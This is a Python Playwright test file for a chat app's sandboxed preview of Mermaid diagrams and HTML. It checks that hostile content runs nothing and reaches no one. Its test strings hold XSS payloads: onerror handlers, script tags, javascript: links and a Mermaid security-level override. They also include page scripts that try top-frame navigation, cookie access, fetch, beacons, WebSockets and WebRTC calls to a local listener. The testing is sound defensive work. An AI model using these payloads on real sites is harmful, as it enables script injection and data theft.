"""What a model's code makes, shown in frames: diagrams are drawn, and hostile content reaches nobody."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from playwright.async_api import FrameLocator, expect

from tests.browser.chat import Chat, Watch
from tests.browser.test_blocks import write_anew

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


@dataclass
class Spy(asyncio.DatagramProtocol):
    """Somebody who listens, on TCP and UDP, for anything at all."""

    port: int = 0
    heard: list[str] = field(default_factory=list)

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.append((await reader.read(200)).decode(errors="replace"))
        writer.close()

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        self.heard.append(f"datagram of {len(data)} bytes")


@pytest_asyncio.fixture(loop_scope="session")
async def spy() -> AsyncIterator[Spy]:
    listening = Spy()
    server = await asyncio.start_server(listening.connected, "127.0.0.1", 0)
    listening.port = server.sockets[0].getsockname()[1]
    loop = asyncio.get_running_loop()
    datagrams, _ = await loop.create_datagram_endpoint(lambda: listening, ("127.0.0.1", listening.port))
    yield listening
    datagrams.close()
    server.close()


async def preview(chat: Chat, language: str, code: str) -> FrameLocator:
    await write_anew(chat, f"```{language}\n{code}\n```")
    figure = chat.answers.first.locator("figure.code")
    await expect(figure.locator("iframe")).to_have_count(0)
    await figure.get_by_role("button", name="Preview").click()
    await expect(figure.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
    return figure.frame_locator("iframe")


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("flowchart LR\n  A[Start] --> B{Is it?}\n  B -->|yes| C[Done]", "Is it?"),
        ("sequenceDiagram\n  Alice->>Bob: Hello Bob", "Hello Bob"),
        ('pie title Pets\n  "Dogs" : 386\n  "Cats" : 85', "Dogs"),
        ("mindmap\n  root((Idea))\n    One\n    Two", "Idea"),
    ],
    ids=["flowchart", "sequence", "pie", "mindmap"],
)
async def test_a_diagram_is_drawn_when_it_is_asked_for(chat: Chat, code: str, expected: str) -> None:
    frame = await preview(chat, "mermaid", code)
    await expect(frame.locator("svg").first).to_be_visible()
    await expect(frame.locator("svg").first).to_contain_text(expected)
    loaded = await chat.page.evaluate("performance.getEntriesByType('resource').map(({name}) => name).join(' ')")
    assert "diagram-" not in loaded, "the library is the frame's alone"


async def test_what_is_no_diagram_says_so(chat: Chat) -> None:
    frame = await preview(chat, "mermaid", "flowchart LR\n  A[[[")
    await expect(frame.locator("pre")).to_contain_text("not a diagram that Mermaid can draw")


HOSTILE_DIAGRAM = """flowchart LR
  A["<img src=x onerror='parent.postMessage(1, origin); document.title=`taken`'><script>document.title='taken'</script>Label"]
  A --> B[Link]
  click B href "javascript:document.title='taken'"
  click A call take()
  style A fill:url(http://127.0.0.1:{port}/style)
%%{{init: {{"securityLevel": "loose", "themeCSS": "* {{ background: url(http://127.0.0.1:{port}/theme) }}"}}}}%%"""


async def test_a_hostile_diagram_runs_nothing_and_reaches_nobody(chat: Chat, watch: Watch, spy: Spy) -> None:
    frame = await preview(chat, "mermaid", HOSTILE_DIAGRAM.format(port=spy.port))
    await expect(frame.locator("svg, pre").first).to_be_visible()
    await expect(frame.locator("script")).to_have_count(0)
    await expect(frame.locator("[onerror], a[href^=javascript]")).to_have_count(0)
    assert await frame.locator("html").evaluate("() => document.title") == "Diagram"
    watch.take("Content Security Policy")
    assert spy.heard == []


HOSTILE_PAGE = """<!doctype html><title>here</title><p id=tried>not yet</p>
<link rel=prefetch href="{spy}/prefetch"><link rel=preconnect href="{spy}"><link rel=stylesheet href="{spy}/style">
<style>@import "{spy}/import"; body {{ background: url({spy}/background) }}</style>
<img src="{spy}/image"><iframe src="{spy}/frame"></iframe><object data="{spy}/object"></object>
<form id=form action="{spy}/form" method=post target=_top><button>send</button></form><a id=link href="{spy}/link" target=_top>go</a>
<script>
const said = [];
const attempt = (name, act) => {{ try {{ act(); said.push(name + " done") }} catch {{ said.push(name + " refused") }} }};
attempt("top", () => {{ top.location.href = "{spy}/top" }});
attempt("parent", () => parent.document.body.remove());
attempt("storage", () => localStorage.setItem("x", "1"));
attempt("cookie", () => {{ document.cookie = "x=1" }});
attempt("open", () => {{ if (open("{spy}/open") === null) throw 0 }});
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('{spy}/worker')"]))));
fetch("{spy}/fetch").catch(() => 0);
navigator.sendBeacon("{spy}/beacon", "x");
attempt("socket", () => new WebSocket("{socket}"));
attempt("events", () => new EventSource("{spy}/events"));
document.querySelector("#form").submit();
document.querySelector("#link").click();
parent.postMessage({{ type: "snapshot" }}, "*");
attempt("calls", () => {{
  const call = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{port}" }}] }});
  call.createDataChannel("x");
  call.createOffer().then((offer) => call.setLocalDescription(offer)).catch(() => 0);
}});
document.querySelector("#tried").textContent = said.join(", ");
setTimeout(() => {{ location.href = "{spy}/self" }}, 1500);
</script>"""


async def test_a_hostile_page_reads_nothing_reaches_nobody_and_leads_nowhere(
    chat: Chat, watch: Watch, spy: Spy
) -> None:
    address = chat.page.url
    code = HOSTILE_PAGE.format(spy=f"http://127.0.0.1:{spy.port}", socket=f"ws://127.0.0.1:{spy.port}", port=spy.port)
    frame = await preview(chat, "html", code)
    tried = frame.locator("#tried")
    await expect(tried).to_contain_text("calls")
    for name in ("top", "parent", "storage", "cookie", "open", "calls"):
        await expect(tried).to_contain_text(f"{name} refused")
    # Its last attempt is to lead its own frame elsewhere: once that is refused, everything has been tried.
    async with asyncio.timeout(20):
        while not any("frame-src" in report or "Framing" in report for report in watch.reports):
            await asyncio.sleep(0.05)
    await expect(chat.message).to_be_visible()
    assert chat.page.url.split("#")[0] == address.split("#")[0] or re.search(r"/c/", chat.page.url)
    assert len(chat.page.context.pages) == 1
    watch.reports.clear()
    assert spy.heard == []
